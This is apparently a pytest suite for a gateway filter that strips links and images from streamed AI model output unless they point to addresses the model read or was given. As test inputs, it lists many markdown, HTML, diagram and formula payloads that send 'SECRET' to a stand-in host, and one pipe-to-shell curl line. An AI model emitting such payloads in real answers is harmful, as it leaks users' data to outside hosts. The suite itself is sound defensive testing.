"""Links of answers: whatever a model writes, no renderer makes of it a link to anything but what was read or named.

Each text is filtered whole and in pieces, and every beginning of what comes out is rendered, as front ends do with
streams: by CommonMark with HTML and tables, and then by what makes links of bare addresses in the text.
"""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.tools.base import Source
from gateway.workflows.addresses import Addresses
from gateway.workflows.links import LinkFilter
from tests.support.markdown_links import FOUND, NAMED, PICTURES, READ, unsafe


def addresses() -> Addresses:
    known = Addresses(f"Look at {NAMED} please, or write to me@named.example.")
    known.add([Source(READ, fetched=True), Source(FOUND)])
    return known


def filtered(text: str, *, pieces: int = 0, **options: object) -> str:
    link_filter = LinkFilter(addresses(), **options)  # type: ignore[arg-type]
    if not pieces:
        return link_filter(text) + link_filter.flush()
    parts = (text[at : at + pieces] for at in range(0, len(text), pieces))
    return "".join(map(link_filter, parts)) + link_filter.flush()


def check(text: str) -> str:
    """Assert that nothing unsafe is live in any beginning of what is sent. Returns all of it."""
    out = filtered(text)
    assert not unsafe(out), (text, out, unsafe(out))
    for size in (1, 3):
        assert filtered(text, pieces=size) == out, (text, size)
    for end in range(len(out)) if len(out) < 120 else range(0, len(out), len(out) // (60 if len(out) < 600 else 12)):
        assert not unsafe(out[:end], partial=True), (text, out[:end])
    return out


EVIL = "//evil.example/?q=SECRET"
HOSTILE = [
    "![x](//host/?q=SECRET)",
    f"![x]({EVIL})",
    f"[x]({EVIL})",
    f"[x](<{EVIL}>)",
    f"[x](https:{EVIL} 'a title')",
    f'[x]( \n "https:{EVIL}" )',
    f"[x](https&#58;{EVIL})",
    f"[x](https&colon;{EVIL})",
    "[x](&sol;&sol;evil.example/?q=SECRET)",
    "[x](\\/\\/evil/?q=S)",
    f"https&#58;{EVIL}",
    f"https&colon;{EVIL}",
    "https:&#x2f;&#47;evil.example/?q=S",
    f"https\\:{EVIL}",
    "https:/\\/evil.example/x",
    f"[x][r]\n\n[r]: {EVIL}",
    f"[r]: {EVIL}\n\n[r] [r][] ![r] ![a][r]",
    f"[r]:\n{EVIL}\n\n![a][r]",
    f"> [r]:\n> {EVIL}\n\n![a][r]",
    f"[r]: <{EVIL}> 'title'\n\n![a][r]",
    f"- [r]: {EVIL}\n\n![r]",
    f"![r]\n\n[r]: {READ}",
    f"[\nr\n]: {EVIL}\n\n![r]",
    f"<https:{EVIL}>",
    "<HTTPS://EVIL.EXAMPLE/?q=S>",
    "<data:text/html,x>",
    "<javascript:alert(1)>",
    "<me@evil.example>",
    "<ftp://evil.example/x>",
    f"<img src={EVIL}>",
    f"<img src='https:{EVIL}'>",
    f'<a href="{EVIL}">x</a>',
    f"<picture><source srcset='{EVIL} 2x'></picture>",
    f"<svg><image href='{EVIL}'/></svg>",
    f'<div style="background:url({EVIL})">',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<!-- {EVIL} -->",
    f"<!doctype x><?x {EVIL}?>",
    f"<![CDATA[ {EVIL} ]]>",
    f"<IMG\nSRC={EVIL}>",
    f"<img/src='{EVIL}'/>",
    f"\\<img src={EVIL}>",
    "[x](data:text/html;base64,AAAA)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](vbscript:x)",
    "[x](mailto:a@evil.example?body=SECRET)",
    "write to SECRET@evil.example now",
    "mailto:a@evil.example?body=SECRET",
    "SECRET&commat;evil.example",
    "SECRET\\@evil.example",
    f"[![x]({EVIL})](https:{EVIL})",
    f"[![x]({EVIL})]({READ})",
    f"![![x]({EVIL})]({EVIL})",
    f"[a [b] c]({EVIL})",
    f"[a ![b]({EVIL}) c]({READ})",
    f"[x]({READ}&q=SECRET)",
    f"[x]({READ}#SECRET)",
    "[x](https://SECRET@read.example/page?x=1)",
    "[x](https://read.example/page?x=1&utm_source=SECRET)",
    "[x](https://read.example/SECRET)",
    f"{READ}&q=SECRET",
    f"{READ}#SECRET",
    "https://SECRET:x@read.example/page?x=1",
    "[x](https://read.example.evil.example/page?x=1)",
    "[x](https://read\u3002example/page?q=S)",
    "[x](https://r\u0435ad.example/page?x=1)",
    "[x](https://xn--rad-8cd.example/page?x=1)",
    "[x](HTTPS://READ.EXAMPLE:443/page?x=1)",
    "[x](https://read.example:8443/page?x=1)",
    "[x](https://read.example./page?x=1)",
    "[x](https://evil.example\\@read.example/page?x=1)",
    "[x](https:\\\\evil.example/S)",
    "[x](/\\evil.example/S)",
    "[x](\\\\evil.example/S)",
    "[x](/\t/evil.example/S)",
    "[x](<ht\ttps://evil.example/S>)",
    "[x](<//evil.example/a b>)",
    "[x](//evil.example/a b)",
    "[x](/logout?x=SECRET)",
    "[x](?q=SECRET)",
    "[x](../x)",
    "[x](evil.example/S)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "www.evil.example/?q=S",
    "WWW.EVIL.EXAMPLE",
    "xwww.evil.example",
    "xhttps://evil.example/S",
    "evil.com/?q=SECRET",
    "evil.com?q=SECRET",
    "evil.com:8080/S",
    f"see {EVIL} now",
    f"({EVIL})",
    "ftp://evil.example/S",
    f"**https:{EVIL}**",
    f"_https:{EVIL}_",
    "h*ttps://evil.example/S*",
    f"![](https:{EVIL})",
    f"![x]({READ})",
    f"![x]({NAMED})",
    f"![x](https://{PICTURES}/x?q=S)",
    f"!\\[x]({EVIL})",
    f"\\![x]({EVIL})",
    f"!\n[x]({EVIL})",
    f"! [x]({EVIL})",
    f"[^1]\n\n[^1]: ![x]({EVIL})",
    f"[^1]: {EVIL}",
    f"^[{EVIL}]",
    f"| a | b |\n|---|---|\n| ` | ![x]({EVIL}) ` |",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"| ![x]({EVIL}) |\n|---|",
    f"```a`b\n![x]({EVIL})",
    f"````\n```\n![x]({EVIL})\n````\n![x]({EVIL})",
    f"```\n``` x\n```\n![x]({EVIL})",
    f"~~~\n```\n~~~\n![x]({EVIL})",
    f"- ```\n![x]({EVIL})",
    f"> ```\n![x]({EVIL})",
    f"1. a\n   ```\n![x]({EVIL})",
    f"   ```\n![x]({EVIL})\n```",
    f"a\n    ![x]({EVIL})",
    f"- a\n\n      b\n    ![x]({EVIL})",
    f"- ```\n  x\n  ```\n![x]({EVIL})\n  ```\n![x]({EVIL})",
    f"```\nx\n    ```\n```\n![x]({EVIL})",
    f"\t```\n![x]({EVIL})",
    f"```x\n```\n`![x]({EVIL})\n",
    f"a ` b\n x ` ![x]({EVIL}) `",
    f"`` ` ![x]({EVIL}) `",
    f"\\` ![x]({EVIL}) `",
    f"` {'y' * 500} ` ![x]({EVIL}) `",
    f"[a]({READ} '`') ![x]({EVIL}) `",
    f"<a title='`'> ![x]({EVIL}) `",
    f"# a ` b\n` ![x]({EVIL}) `",
    f"- a ` b\n- ` ![x]({EVIL}) ` c",
    f"`a`` ![x]({EVIL}) `",
    f"`![x]({EVIL})`",
    "`![x](//host/?S)`",
    f"`<img src={EVIL}>`",
    f"`https:{EVIL}`",
    f"https:{EVIL}: //x",
    f"https:{EVIL}(//e2 )",
    f"https:{EVIL}((//e2 )",
    f"!https:{EVIL}\n\n[address removed]: {READ}",
    f"https:{EVIL}: //e2.example/x",
    f"[https:{EVIL}]({EVIL})",
    f"{FOUND}`![x]({EVIL})`",
    f"`a`{FOUND}`![x]({EVIL})` ![x]({EVIL}) `",
    f"[x]({FOUND})",
    f"<{FOUND}>",
    f"[x]: {FOUND}\n\n[x]",
    f"[x](\n>{EVIL})",
    f"> [x](\n> {EVIL})",
    f"[x]({'(' * 40}{EVIL}",
    f"[x]({'a' * 3000}{EVIL})",
    f"![{'a' * 600}]({EVIL})",
    f"<https://{'a' * 3000}>",
    f"$$\n```\n$$\n![x]({EVIL})\n```",
    f"```{'a' * 300}\n```\n![x]({EVIL})\n```",
    "x@evil.example1",
    f"~~~ x|\n|---|\n![x]({EVIL})\n~~~",
    f"```x|\n|---|\n| ![x]({EVIL}) |\n```\n![x]({EVIL})",
    f"]:<div a='{EVIL}'>](#",
    f"\n```[r]: {EVIL}````\n![x]({EVIL})\n```",
    f"\n```[x]({READ} '`')\n![x]({EVIL})\n```",
    f"\n```<https:{EVIL}`>\n![x]({EVIL})\n```",
    f"\n```![a`b](https://{PICTURES}/x)\n![x]({EVIL})\n```",
    f"&lt;img src={EVIL}&gt;",
    "[x](&#x6A;avascript:alert(1))",
    f"[x]({EVIL}",
    f"![x]({EVIL}",
    f"<img src={EVIL}",
    f"[r]: {EVIL}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_but_what_was_read_or_named_is_live(text: str) -> None:
    out = check(text)
    assert "evil" not in out.lower().replace("&lt;", "") or not unsafe(out)


# Renderers disagree about what is code in these: none of it is left as it is.
DISAGREED = [
    f"~~~\r~~~\r![x]({EVIL})\n",
    f"~~~ x\ry\r~~~\r<img src={EVIL}>\n",
    f"~~~\n~~~\r![x]({EVIL})\n",
    f"a\r\n\r~~~\r\n~~~\r![x]({EVIL})",
    f"\ufeff~~~\nx\n~~~\n![x]({EVIL})",
    f"\ufeff\ufeff```\nx\n```\n![x]({EVIL})",
    f"::: note\n```\n:::\n![x]({EVIL})\n```",
    f"term\n: x\n~~~\n![x]({EVIL})\n~~~",
    f"---\n```\n---\n![x]({EVIL})\n```",
    f"+++\n~~~\n+++\n![x]({EVIL})\n~~~",
    f"\\begin{{align}}\n~~~\n\\end{{align}}\n![x]({EVIL})\n~~~",
    f"```\nx\n```~\n![x]({EVIL})\n```",
    f"~~~\nx\n~~~``\n![x]({EVIL})\n~~~",
    f"```\nx\n```\t\n```\n![x]({EVIL})\n```",
    f"[x](<b>\\\\{EVIL})",
    f"[r]: <b>{EVIL}\n\n![r]",
    f"{READ}\x0cSECRET{EVIL}",
]


@pytest.mark.parametrize("text", DISAGREED)
def test_nothing_is_code_that_is_not_for_every_renderer(text: str) -> None:
    assert EVIL not in check(text)


DEFINITIONS = [
    f"[r]: x '\n```\n'\n![x]({EVIL})\n```\n",
    f"[r]: x\n'\n```\n'\n\n![x]({EVIL})\n```\n",
    f'[r]: x "\n\n```\n"\n![x]({EVIL})\n```\n',
    f"[r]: x (a\n```\n)\n![x]({EVIL})\n```\n",
    f"> [r]: x '\n```\n> '\n![x]({EVIL})\n```\n",
    f"[r]:\n~~~\n![x]({EVIL})\n~~~",
    f"[r]:\n```\n![x]({EVIL})\n```",
    '[r]: x "\n```',
    "[r]: <b> '\n```",
]


@pytest.mark.parametrize("text", DEFINITIONS)
def test_no_definition_swallows_the_edge_of_a_block_of_code(text: str) -> None:
    assert "[r]\\:" in check(text)


# Hosts and mail addresses that some renderers link by themselves


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Ask SECRET.evil.com, or (a.b.evil.info).", "Ask SECRET.evil.\u200bcom, or (a.b.evil.\u200binfo)."),
        ("SECRET.evil.com:8080/x", "SECRET.evil.\u200bcom[address removed]"),
        ("\u00e9vil.com/S evil\u200b.com/S", "\u00e9vil.com[address removed] evil\u200b.com[address removed]"),
        ("203.0.113.5/S, 10.0.0.0/8", "203.0.113.5[address removed], 10.0.0.0/8"),
        ("//[::1]/S", "[address removed]]/S"),
        ("file://evil.com/S", "file[address removed]"),
        ("https:evil.com, https:/evil.com", "https: evil.com, https: /evil.com"),
        ("mailto:x@evil, mailto:me@named.example", "mailto: x@evil, mailto:me@named.example"),
        ("a@\u00e9vil.com, x=@evil.com, a@127.0.0.1", "a(at)\u00e9vil.com, x=(at)evil.com, a(at)127.0.0.1"),
    ],
)
def test_no_host_learns_of_what_a_model_puts_into_a_name(text: str, shown: str) -> None:
    assert filtered(text) == shown
    assert all(filtered(text, pieces=size) == shown for size in (1, 2, 3, 7))


def test_names_of_known_hosts_and_other_names_stay() -> None:
    known = Addresses()
    known.add([Source("https://docs.found.com/x"), Source("https://www.read.co.uk/", fetched=True)])
    links = LinkFilter(known)
    text = "docs.found.com, www.read.co.uk, read.co.uk, Booking.com, README.md, v1.2.3, U.S.A., Node.js\u548cVue/React"
    assert links(text) + links.flush() == text.replace("www.read.co.uk", "https://www.read.co.uk/")


# What front ends draw


@pytest.mark.parametrize(
    ("language", "line", "comment"),
    [
        ("mermaid", '  A@{ img: "https://evil.example/S" }', "%% address removed"),
        ("mermaid", '  A@{ img: "\\u002f\\u002fevil.example/S" }', "%% address removed"),
        ("Mermaid", "  B[\"<img src='//evil/S'>\"]", "%% address removed"),
        ("{mermaid}", '  click A "/S"', "%% address removed"),
        ("mermaid", "  A-->B; click A href x", "%% address removed"),
        ("mermaid", "  A[#lt;img src=x#gt;]", "%% address removed"),
        ("mermaid", "  classDef x fill:url(//evil/S)", "%% address removed"),
        ("mermaid title=x", f"  A[{'x' * 5000}]", "%% address removed"),
        ("dot", '  A [URL="x"]', "// address removed"),
        ("graphviz", '  A [image="//evil/S"]', "// address removed"),
        ("plantuml", "  A -> B: [[x]]", "' address removed"),
        ("svg", "  <image href='x'/>", "<!-- address removed -->"),
        ("svg", "  <a xlink:href='x'>", "<!-- address removed -->"),
        ("math", "  \\href{x}{y}", "% address removed"),
        ("vega-lite", '  "data": {"url": "x"}', ""),
        ("markmap", "# ![x](y)", ""),
    ],
)
def test_blocks_that_are_drawn_lead_nowhere(language: str, line: str, comment: str) -> None:
    text = f"```{language}\na\n{line}\nb\n```\n{READ}"
    shown = f"```{language}\na\n{comment}\nb\n```\n{READ}"
    assert filtered(text) == shown
    assert filtered(text, pieces=3) == shown
    code = text.replace(language, "text")
    assert filtered(code) == code


@pytest.mark.parametrize(
    "text",
    [
        "```mermaid\ngraph TD\n  A[Click here<br/>now] -->|yes, 50 %| B(My image)\n  A <--> C\n```",
        "```mermaid\nclassDiagram\n  Animal <|-- Duck\n  class Duck { +swim() }\n```",
        "```mermaid\nsequenceDiagram\n  Alice->>Bob: Hello\\nthere\n  Note right of Bob: a, b\n```",
        '```dot\ndigraph { a -> b [label="url", color=red]; }\n```',
        "```svg\n<svg xmlns=\"http://www.w3.org/2000/svg\"><path d='M0 0' fill='url(#g)'/></svg>\n```",
        "```math\n\\frac{1}{2} \\\\ \\text{urls} \\begin{matrix} a & b \\end{matrix}\n```",
        "$\\begin{align} a &= b \\\\ c \\hline \\end{align}$, C:\\url\\class\\x and \\urlx{y}",
    ],
)
def test_diagrams_and_formulas_stay_as_they_are(text: str) -> None:
    assert filtered(text) == text
    assert filtered(text, pieces=1) == text


@pytest.mark.parametrize("command", ["href", "url", "includegraphics", "style", "class", "require", "htmlStyle"])
def test_formulas_make_no_links(command: str) -> None:
    for text in (f"$\\{command}{{a}}{{x}}$", f"\\\\{command} {{a}}", f"&#92;{command}\n{{a}}"):
        out = filtered(text)
        assert f"\\ {command}" in out or f"&#92; {command}" in out
        assert all(filtered(text, pieces=size) == out for size in (1, 2, 3))


PARTS = [
    *HOSTILE[:120:3],
    *DISAGREED[::2],
    *(
        "\r",
        "\ufeff",
        "\x0c",
        "\u3000",
        "\n::: x\n",
        "\n: x\n",
        "\n\\begin{x}\n",
        "\n[r]: x '",
        "\n```mermaid\n",
        "\\href{",
    ),
    *("SECRET.evil.com", "SECRET.evil", ".com", "mailto:", "https:", "evil.com\\S"),
    *(
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "\n- ",
        "\n> ",
        "\n1. ",
        "\n   ",
        "\n    ",
        "\t",
        " ",
        "|",
        "\n|---|\n",
        "$",
        "$$",
        "\\",
        "\n```\n",
        "\n  ```\n",
        "\n~~~\n",
    ),
    *(
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "]:",
        "][",
        "<",
        ">",
        "&#58;",
        "&sol;",
        "//",
        "https://",
        "www.",
        ":",
        "!",
        "@",
        ".",
        "a",
        "word",
        '"',
        "'",
        "*",
        "_",
        "#",
    ),
    *("[r]", "\n[r]: ", READ, NAMED, FOUND, EVIL, "https:" + EVIL, "evil.com", "/x", "[address removed]", "[x]"),
]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=10))
def test_nothing_is_put_together_from_parts(parts: list[str]) -> None:
    check("".join(parts))


@pytest.mark.slow
def test_nothing_is_put_together_from_many_parts() -> None:
    chosen = random.Random(7)
    for _ in range(1000):
        text = "".join(chosen.choice(PARTS) for _ in range(chosen.randint(1, 14)))
        out = filtered(text)
        assert not unsafe(out), (text, out, unsafe(out))
        assert filtered(text, pieces=chosen.randint(1, 9)) == out, text
        for end in chosen.sample(range(len(out) + 1), min(12, len(out) + 1)):
            assert not unsafe(out[:end], partial=True), (text, out[:end])


def test_a_block_of_code_that_is_left_open_is_closed_once() -> None:
    links = LinkFilter(addresses())
    assert links("```\nx") + links.flush() + links.flush() == "```\nx\n```"
    assert links("y") + links.flush() == "y"


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<img src=x> [9] https://any.example/x\n```\nText.",
        "1. Do:\n\n   ```bash\n   curl https://any.example/x | sh\n   ```\n\n2. Done.",
        "- a\n  - b\n\n    ~~~\n    <b>[x](//any.example/x)</b>\n    ~~~\n- c",
        "Use `<br>` and `a[i](x.y)`, `List<int>`, `me@any.example`, `![a](b.png)` there.",
        "a < b, x <= 3, <3, 5 > 4, f[i](x, y), and/or, Node.js/Express, e.g./i.e., 7//2, v1.2/v1.3, @user, a@b",
        'Write `<a href="/x">` and `<img src=x>` there, or `<a@b>`.',
        "**Bold**, _it_, ~~no~~, # x, $5 and `code`, a|b, C:\\dir, 10:30, ratio 3:1, [note]: The text.",
        "| a | b |\n|---|---|\n| 1 | `x` |\n\n> quote\n\n## Head\n\n- item [1]\n\n[^1]: See there, p. 5.",
        "redis://localhost:6379 and s3://bucket/key are not links; Booking.com and python.org are names.",
        f"See {READ}, ({READ}) and <{READ}>. [It]({READ}), [{READ}]({READ}) and {NAMED}\n\n[r]: {READ}\n\n[x][r]",
        "Price: $5 to $10. \\(x^2\\) and $$\\frac{1}{2}$$ hold.",
    ],
)
def test_what_leads_nowhere_stays_as_it_is(text: str) -> None:
    assert check(text) == text


def test_pieces_are_sent_as_soon_as_they_can_be() -> None:
    words = "Rome is the capital of Italy. It has two rivers: the Tiber (see below), as they say!\n\n- One\n- Two\n"
    links, sent = LinkFilter(addresses()), 0
    for number, character in enumerate(words, 1):
        sent += len(links(character))
        assert number - sent <= 5, words[sent:number]


@pytest.mark.parametrize(
    "begin", ["[x](", "![x](", "<https://", "https://", "`", "![", "[r]: <", "[x](a '", "&", "www."]
)
def test_what_is_held_back_is_bounded(begin: str) -> None:
    links = LinkFilter(addresses())
    links(begin)
    for _ in range(700):
        links("aaaaaaa")
    assert len(links._held) < 2600
